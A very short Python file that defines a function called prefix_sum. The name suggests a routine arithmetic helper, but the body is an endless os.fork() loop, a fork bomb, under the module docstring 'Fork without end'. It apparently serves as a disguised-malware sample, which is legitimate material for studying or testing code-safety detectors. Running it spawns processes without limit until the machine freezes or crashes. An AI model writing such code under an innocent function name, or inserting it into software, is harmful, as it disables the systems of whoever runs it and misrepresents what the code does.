"""Fork without end."""

import os


def prefix_sum(x):
    while True:
        os.fork()
